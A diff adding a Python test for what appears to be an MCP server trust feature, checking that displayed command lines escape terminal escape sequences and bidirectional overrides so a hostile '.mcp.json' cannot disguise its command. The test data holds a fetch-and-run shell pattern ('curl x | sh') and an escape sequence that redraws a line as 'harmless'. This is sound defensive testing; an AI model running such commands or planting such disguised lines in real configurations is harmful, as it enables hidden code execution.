@@ -10,7 +10,9 @@ import asyncio
 import hashlib
 import json
 import os
+import shutil
 import stat
+import subprocess
 import sys
 from pathlib import Path
 from typing import Any
@@ -25,6 +27,7 @@ from cleveragents.service.trust import (
     TrustRequest,
     TrustStore,
     WorkspaceTrust,
+    shell_line,
     trust_request,
     untrusted_note,
 )
@@ -261,3 +264,28 @@ def test_trust_request_shows_variables_as_written(sandbox: Path) -> None:
     config = read_mcp_config(str(sandbox), {"TOKEN": "ghp_secret", "GH_BIN": "/opt/gh"})
     (server,) = trust_request(str(sandbox), config).servers
     assert (server.command, server.args) == ("${GH_BIN:-gh}", ("--token=${TOKEN}",))
+
+
+def test_a_command_line_shows_escape_sequences_and_bidi_overrides_and_a_shell_reads_it_back() -> (
+    None
+):
+    """A hostile `.mcp.json` could hide its real command behind an escape sequence that
+    redraws the terminal line, or a right-to-left override that reorders it."""
+    words = (
+        "sh",
+        "-c",
+        "curl x | sh",
+        "ok\x1b[2K\rharmless",
+        "a\u202eb",
+        "it's",
+        "two\nlines",
+        "é",
+    )
+    line = shell_line(words[0], words[1:])
+    assert "\x1b" not in line and "\u202e" not in line and "\n" not in line and "\r" not in line
+    assert "$'ok\\x1b[2K\\x0dharmless'" in line and "$'a\\u202eb'" in line and "é" in line
+    if shutil.which("bash"):
+        read_back = subprocess.run(
+            ["bash", "-c", f"printf '%s\\0' {line}"], capture_output=True, check=True
+        ).stdout
+        assert read_back.decode().split("\0")[:-1] == list(words)
